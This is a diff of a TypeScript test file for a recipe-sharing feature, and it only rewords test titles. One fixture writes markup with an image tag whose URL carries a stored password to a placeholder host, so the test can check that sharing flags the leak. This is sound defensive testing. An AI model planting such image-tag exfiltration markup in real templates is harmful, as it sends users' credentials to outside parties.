@@ -45,7 +45,7 @@ async function addSecretive(t: Test) {
   return { gallery, plugins, id: setting.id };
 }
 
-t.test('no secret leaves in any form of sharing', async (t) => {
+t.test('no way of sharing includes a secret', async (t) => {
   const { plugins, id } = await addSecretive(t);
   const { uuid } = plugins.get(id);
   const secrets = [...Object.values(SECRETS), uuid];
@@ -75,13 +75,13 @@ t.test('no secret leaves in any form of sharing', async (t) => {
   }
 });
 
-t.test('a secret that is written in the markup keeps the recipe from being shared', async (t) => {
+t.test('a secret in the markup prevents the recipe from being shared', async (t) => {
   const { plugins, id } = await addSecretive(t);
   await plugins.writeMarkup(id, { quadrant: `<img src="https://a.example/?k=${SECRETS.password}">` });
   t.strictSame((await shareRecipe(plugins, id, { layout: 'flat', sample: 'none' })).leaks, ['quadrant.liquid']);
 });
 
-t.test('what was exported can be put back without losing keys', async (t) => {
+t.test('an exported recipe can be imported again without losing keys', async (t) => {
   const { plugins, id } = await addSecretive(t);
   const before = await plugins.draft(id);
   await replaceRecipe(plugins, id, await readRecipeArchive(await exportRecipe(plugins, id)));
@@ -91,7 +91,7 @@ t.test('what was exported can be put back without losing keys', async (t) => {
   t.same(after.settings.custom_fields, before.settings.custom_fields);
 });
 
-t.test('a shared project has sample data and a picture, and comes back whole', async (t) => {
+t.test('a shared project has sample data and a picture, and can be imported completely', async (t) => {
   const { gallery, plugins } = await openGallery(t);
   const { setting } = await importRecipe(
     plugins,
